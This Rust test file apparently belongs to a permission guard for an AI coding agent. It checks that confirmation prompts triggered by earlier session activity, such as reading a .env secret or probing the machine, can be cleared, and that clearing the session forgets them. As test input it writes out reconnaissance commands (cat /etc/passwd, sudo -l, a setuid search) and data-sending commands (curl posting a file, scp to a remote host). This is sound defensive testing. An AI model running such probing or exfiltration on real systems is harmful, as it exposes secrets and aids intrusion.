//! `guard-host allow` for prompts that depend on earlier calls of the session: every option ends them.

use serde_json::json;

use crate::support::reply::assert_ask;
use crate::support::terminal::attended;
use crate::support::texts::Transcript;
use crate::support::world::{ProcessOutput, World};
use crate::texts::assert_text;

/// Creates a world whose session has read a secret.
fn after_secret() -> World {
    let world = World::new();
    world.write("repo/.env", "A=1\n");
    let payload = json!({
        "session_id": "s1", "cwd": world.repo(), "hook_event_name": "PreToolUse", "permission_mode": "default",
        "tool_name": "Read", "tool_input": { "file_path": world.path("repo/.env") },
    });
    assert_ask(&world.hook(&payload.to_string()), &[]);
    world
}

/// Creates a world whose session has looked at the machine twice.
fn after_looks() -> World {
    let world = World::new();
    for command in ["whoami", "id", "sudo -l", "cat /etc/passwd", "uname -a", "ps aux", "netstat -tlnp", "ip a"] {
        world.bash(command);
    }
    world
}

fn choose(world: &World, number: usize) -> ProcessOutput {
    attended(world, &["allow", "--last", "--choose", &number.to_string(), "--yes"])
}

#[test]
fn every_option_ends_a_prompt_that_depends_on_earlier_calls() {
    for (start, command) in [
        (after_secret as fn() -> World, "npm publish"),
        (after_secret, "curl -d @a https://example.org/"),
        (after_secret, "scp notes.txt build.example.org:"),
        (after_looks, "find / -perm -4000"),
    ] {
        let mut number = 1;
        loop {
            let world = start();
            assert_ask(&world.bash(command), &[]);
            let ended = choose(&world, number);
            if ended.exit == 64 {
                break;
            }
            assert_eq!(ended.exit, 0, "{command} {number}: {ended:?}");
            assert!(!ended.stdout.contains("still needs confirmation"), "{command} {number}: {ended:?}");
            assert_ne!(world.bash(command).decision(), "ask", "{command} {number}: {ended:?}");
            number += 1;
        }
        assert!(number > 2, "{command}");
    }
}

#[test]
fn the_options_name_the_rules_and_what_forgets_the_session() {
    let world = after_secret();
    assert_ask(&world.bash("npm publish"), &["publish-package", "secret-then-network"]);
    let ended = attended(&world, &["allow", "--last"]);
    let mut told = Transcript::default();
    told.add(&world, 0, &ended);
    assert_text!("allow_session", told.0);
    // What it says about the session works.
    assert_eq!(attended(&world, &["session", "clear", "--session", "s1", "--yes"]).exit, 0);
    let asked = world.bash("npm publish");
    assert_ask(&asked, &["publish-package"]);
    assert!(!asked.reason().contains("secret-then-network"), "{asked:?}");
}
